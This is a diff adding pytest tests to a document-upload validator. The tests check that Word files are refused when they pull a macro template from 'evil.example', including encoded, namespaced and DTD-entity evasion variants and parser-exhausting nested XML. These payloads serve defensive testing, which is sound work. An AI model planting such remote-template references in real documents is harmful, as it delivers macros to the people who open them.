@@ -26,7 +26,7 @@ from tenancy.files import (
 from tests.tenancy.hwp_files import hwp
 
 
-def packed(**members: str) -> bytes:
+def packed(**members: str | bytes) -> bytes:
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w") as archive:
         for name, text in members.items():
@@ -34,7 +34,7 @@ def packed(**members: str) -> bytes:
     return file.getvalue()
 
 
-def office(folder: str, **more: str) -> bytes:
+def office(folder: str, **more: str | bytes) -> bytes:
     return packed(**{"[Content_Types].xml": "<Types/>", f"{folder}/a.xml": "<a/>"} | more)
 
 
@@ -99,6 +99,108 @@ def test_a_picture_is_no_pdf_where_only_pictures_are_asked_for() -> None:
 def test_a_document_with_macros_is_refused() -> None:
     with pytest.raises(ValidationError, match=r"“a\.docx” holds macros\. Save it without them and upload that\."):
         check_upload(upload("a.docx", office("word", **{"word/vbaProject.bin": "x"})))
+
+
+KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE = f'Type="{KIND}/attachedTemplate" TargetMode="External"'
+ELSEWHERE = 'Target="https://evil.example/t.dotm"'
+
+
+def relations(content: str | bytes) -> SimpleUploadedFile:
+    """A document whose settings say this of their relations; a mere relation is put where one belongs."""
+    if isinstance(content, str) and content.startswith("<Relationship "):
+        content = f'<Relationships xmlns="urn:x">{content}</Relationships>'
+    return upload("a.docx", office("word", **{"word/_rels/settings.xml.rels": content}))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        f"<Relationship Id='r' {TEMPLATE} {ELSEWHERE}/>",
+        f'<Relationship Target="https://evil.example/t.dotm?a>b" {TEMPLATE}/>',
+        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace('"', "'"),
+        f'<p:Relationships xmlns:p="urn:x"><p:Relationship {TEMPLATE} {ELSEWHERE}/></p:Relationships>',
+        f'<Relationship xmlns:p="urn:x" p:Target="t.dotm" p:TargetMode="Internal" {TEMPLATE} {ELSEWHERE}/>',
+        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace("External", "&#69;xternal").replace("//", "&#x2f;/"),
+        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace("attached", "Attached").replace("https:", " HT&#10;TPS:"),
+        f"<?xml version='1.0' encoding='UTF-16'?><R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-16"),
+        f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-8-sig"),
+        f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-16-le"),
+        "<!DOCTYPE R><R/>",
+        f'<!DOCTYPE R [<!ENTITY t "https://evil.example/t.dotm">]><R><Relationship {TEMPLATE} Target="&t;"/></R>',
+        f"<?xml version='1.0' encoding='utf-7'?><R><Relationship {TEMPLATE} {ELSEWHERE}/></R>",
+        "<Relationships><Relationship></Relationships>",
+        "<R/><R/>",
+        "<R>" * 201 + "</R>" * 201,
+        "",
+    ],
+)
+def test_an_office_document_that_takes_a_part_of_itself_from_elsewhere_is_refused(content: str | bytes) -> None:
+    says = r"“a\.docx” loads or starts something when it is opened\. Save it without that, or as a PDF\."
+    with pytest.raises(ValidationError, match=says):
+        check_upload(relations(content))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        f'<Relationship Type="{KIND}/hyperlink" Target="https://bici.example/frames/carbon" TargetMode="External"/>',
+        f'<Relationship Type="{KIND}/image" Target="https://bici.example/oleObject.png?a>b" TargetMode="External"/>',
+        f'<Relationship {TEMPLATE} Target="file:///S:/Templates/Letter.dotx"/>',
+        f'<Relationship {TEMPLATE} Target="C:\\Templates\\Letter.dotx"/>',
+        f'<Relationship Type="{KIND}/oleObject" Target="embeddings/oleObject1.bin"/>',
+        f'<Relationship {TEMPLATE} Target="Letter.dotx"/><Relationship Type="{KIND}/hyperlink" {ELSEWHERE}/>',
+        "<?xml version='1.0' encoding='UTF-16'?><R>가</R>".encode("utf-16"),
+        "<R>" * 200 + "</R>" * 200,
+        "<?xml version='1.0' encoding='utf-8' standalone='yes'?>\r\n<R/>".encode("utf-8-sig"),
+    ],
+)
+def test_an_office_document_may_link_to_others_and_name_the_template_of_the_house(content: str | bytes) -> None:
+    assert check_upload(relations(content)).endswith("wordprocessingml.document")
+
+
+@pytest.mark.parametrize(
+    ("begin", "repeated", "end", "is_taken"),
+    [
+        ("<", "Relationship ", "", False),
+        ("", "<Relationship>", "", False),
+        ("<R>", "  " * 1024, "</R>", False),
+        ('<R Target="', "Relationship ", '"/>', True),
+        ("<R>", "<Relationship/>", "</R>", True),
+    ],
+)
+def test_relations_made_to_keep_the_portal_busy_do_not(begin: str, repeated: str, end: str, is_taken: bool) -> None:
+    file = relations(begin + repeated * max(2048, 2 * 1024 * 1024 // len(repeated)) + end)
+    if is_taken:
+        assert check_upload(file).endswith("wordprocessingml.document")
+        return
+    with pytest.raises(ValidationError, match="loads or starts"):
+        check_upload(file)
+
+
+def test_relations_that_stand_in_a_document_twice_are_both_looked_at() -> None:
+    file = io.BytesIO(office("word"))
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>")
+        with pytest.warns(UserWarning, match="Duplicate name"):
+            archive.writestr("word/_rels/settings.xml.rels", "<R/>")
+    with pytest.raises(ValidationError, match="loads or starts"):
+        check_upload(upload("a.docx", file.getvalue()))
+
+
+@pytest.mark.parametrize(
+    ("member", "says"), [("[Content_Types].xml", "is damaged"), ("word/_rels/settings.xml.rels", "loads or starts")]
+)
+def test_an_office_document_that_is_damaged_within_is_refused(member: str, says: str) -> None:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name in ("[Content_Types].xml", "word/a.xml", "word/_rels/settings.xml.rels"):
+            archive.writestr(name, "<Types/>")
+        begins = archive.getinfo(member).header_offset + 30 + len(member)
+    content = bytearray(file.getvalue())
+    content[begins] = 0xFF  # no kind of block that there is
+    with pytest.raises(ValidationError, match=says):
+        check_upload(upload("a.docx", bytes(content)))
 
 
 def test_what_is_too_large_or_empty_is_refused() -> None:
